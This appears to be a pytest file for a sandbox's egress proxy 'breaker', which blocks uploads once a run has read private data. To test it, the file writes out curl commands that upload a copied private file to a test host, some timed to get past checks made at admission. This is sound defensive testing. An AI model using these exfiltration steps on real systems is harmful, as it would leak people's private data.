"""The breaker where bytes leave: the egress proxy checks the run's taint on every connection
when it is made, in each sandbox, against a live upstream that keeps every body.

The attacks open a connection after their step was admitted: a background task started while
the run was clean, whose next request comes after the run holds both kinds; a held step shown
for another reason and approved once the run holds both. Each passes only when nothing reached
the upstream after the run held both and the refusal is recorded with the breaker's reason;
its control (the opt-out, or a person answering the breaker's own ask) shows the same bytes do
reach the upstream when let through.
"""

from __future__ import annotations

import threading

import pytest

from helpers import recording
from stockade.errors import PolicyHeld
from stockade.record.chain import rows

from .test_breaker import config, run, ws

__all__ = ["ws"]  # the fixture, used by name (the upstream is tests/conftest.py's)


def waits_then_puts(port: int, path: str) -> list[str]:
    """A ``network`` step that asks ``/wait`` (answered when the test says), then, over a new
    connection, uploads ``path`` (read when that transfer starts: ``-T``)."""
    base = f"http://allowed.test:{port}"
    curl = ["/usr/bin/curl", "-sS", "--max-time", "30"]
    return [*curl, f"{base}/wait", "--next", *curl[1:], "-T", path, f"{base}/up"]


def finished(host, task_id: str):
    done = threading.Event()
    host.on_task_done(lambda info: done.set() if info.task_id == task_id else None)
    for _ in range(600):
        info = next(t for t in host.list_tasks(owner="t") if t.task_id == task_id)
        if info.status != "running":
            return info
        done.wait(0.1)
    raise AssertionError(f"{task_id} did not end")


def connections(host) -> list[dict[str, object]]:
    return [row.body for row in rows(host.store, host.run_id) if row.kind == "connection"]


@pytest.mark.parametrize("opted_out", [False, True], ids=["breaker", "control-opt-out"])
def test_a_task_admitted_clean_cannot_send_after_the_run_holds_both(
    make_host, box, ws, upstream, opted_out: bool
) -> None:
    extra = {"breaker": "off-allow-exfiltration"} if opted_out else {}
    host = make_host(config=config(box, upstream.port, **extra))
    (box.ws / "data.txt").write_text("nothing yet\n")
    run(host, box, ["cat", "readme.txt"])  # somebody else's words; nothing private yet
    request = box.request(waits_then_puts(upstream.port, "data.txt"), profile="a")
    task = host.start(request, owner="t")
    assert upstream.waiting.wait(30), "the task never reached the upstream"
    # While its first request waits, the run comes to hold private data: a step copies it.
    run(host, box, ["cp", "private/notes.txt", "data.txt"])
    upstream.go_on.set()
    info = finished(host, task.task_id)
    canary = box.canary.encode() + b"\n"
    if opted_out:  # the control: the same bytes reach the upstream when nothing checks
        assert upstream.seen == [b"/wait ", b"/up " + canary], info
        return
    assert upstream.seen == [b"/wait "]  # the upload never left
    assert info.result is not None  # curl without -f prints the proxy's 403 and exits 0
    assert "stockade egress proxy: refused at the egress proxy: the breaker" in (
        info.result.stdout.text
    )
    refused = info.result.refused
    assert len(refused) == 1 and "the breaker: this run holds private data" in refused[0].reason
    found = [c for c in connections(host) if not c["allowed"]]
    assert len(found) == 1, connections(host)
    assert str(found[0]["reason"]).startswith("refused at the egress proxy: the breaker")
    assert "grant read-private: private/notes.txt" in str(found[0]["reason"])


def test_a_held_step_approved_later_is_decided_again(make_host, box, ws, upstream) -> None:
    host = make_host(config=config(box, upstream.port, ask=("network",)))
    argv = ["/usr/bin/curl", "-sS", "--max-time", "20", "-T", "data.txt"]
    argv.append(f"http://allowed.test:{upstream.port}/up")
    (box.ws / "data.txt").write_text("nothing yet\n")
    with pytest.raises(PolicyHeld) as first:  # granted what it will upload (marked by then)
        run(host, box, argv, read_private=True)  # the profile asks; no words yet
    step = first.value.details["step"]
    assert host.store.get(host.run_id, step).decision.by != "breaker"
    run(host, box, ["cat", "readme.txt"])
    run(host, box, ["cp", "private/notes.txt", "data.txt"])  # now it holds both
    host.answer(host.run_id, step, approve=True, by="a person")  # shown for the policy's ask
    with pytest.raises(PolicyHeld, match="the breaker: this run holds private data") as again:
        host.resume(host.run_id, step)
    assert "it was shown for:" in again.value.message
    waiting = host.store.get(host.run_id, step)
    assert (waiting.state, waiting.decision.by) == ("held", "breaker")
    assert [s.step for s in host.store.waiting()] == [step]  # `stockade pending` shows it
    assert upstream.seen == []
    # The control: a person answers the breaker's own ask; the same step sends the bytes.
    host.answer(host.run_id, step, approve=True, by="a person")
    assert host.resume(host.run_id, step).exit_code == 0
    assert upstream.seen == [b"/up " + box.canary.encode() + b"\n"]


def test_an_approval_the_breaker_asked_for_lets_later_connections_on(
    make_host, box, ws, upstream
) -> None:
    """A step a person let through over the breaker is not refused by the proxy for it."""
    host = make_host(config=config(box, upstream.port))
    run(host, box, ["cat", "readme.txt"])
    run(host, box, ["cat", "private/notes.txt"])
    with pytest.raises(PolicyHeld, match="the breaker") as held:
        run(host, box, ["/usr/bin/curl", "-sS", f"http://allowed.test:{upstream.port}/a"])
    step = held.value.details["step"]
    host.answer(host.run_id, step, approve=True, by="a person")
    assert host.resume(host.run_id, step).exit_code == 0
    assert upstream.seen == [b"/a "]


@pytest.fixture
def kept():
    """The recording upstream speaking HTTP/1.1: a client keeps its connection."""
    yield from recording.serving(keep_alive=True)


@pytest.mark.parametrize("opted_out", [False, True], ids=["breaker", "control-opt-out"])
def test_a_connection_opened_clean_sends_nothing_once_the_run_holds_both(
    make_host, box, ws, kept, opted_out: bool
) -> None:
    """A background task opens its tunnel while the run is clean and keeps it: its second
    request, over the same connection, comes after the run came to hold both."""
    extra = {"breaker": "off-allow-exfiltration"} if opted_out else {}
    host = make_host(config=config(box, kept.port, **extra))
    (box.ws / "data.txt").write_text("nothing yet\n")
    run(host, box, ["cat", "readme.txt"])  # somebody else's words; nothing private yet
    task = host.start(
        box.request(recording.kept_then_puts(kept.port, "data.txt"), profile="a"), owner="t"
    )
    assert kept.waiting.wait(30), "the task never reached the upstream"
    run(host, box, ["cp", "private/notes.txt", "data.txt"])  # now the run holds both
    kept.go_on.set()
    info = finished(host, task.task_id)
    canary = box.canary.encode() + b"\n"
    ours = [c for c in connections(host) if c["method"] == "CONNECT"]
    if opted_out:  # the control: the same bytes go over the kept tunnel when nothing checks
        assert kept.seen == [b"/wait ", b"/up " + canary], info
        assert len(ours) == 1 and len(set(kept.peers)) == 1, (ours, kept.peers)  # reused
        return
    assert kept.seen == [b"/wait "]  # the upload never left
    # The tunnel opened while the run was clean carried the first request, then was cut;
    # curl's new connection for the upload, if it makes one, is refused when it is made.
    # (Connections are recorded as they end: the cut tunnel may come after a refused one.)
    carried = [c for c in ours if int(c["bytes_up"]) > 0]
    assert len(carried) == 1 and not any(c["allowed"] for c in ours), ours
    for connection in ours:
        assert str(connection["reason"]).startswith("refused at the egress proxy: the breaker")
    assert info.result is not None
    assert {r.reason for r in info.result.refused} == {c["reason"] for c in ours}
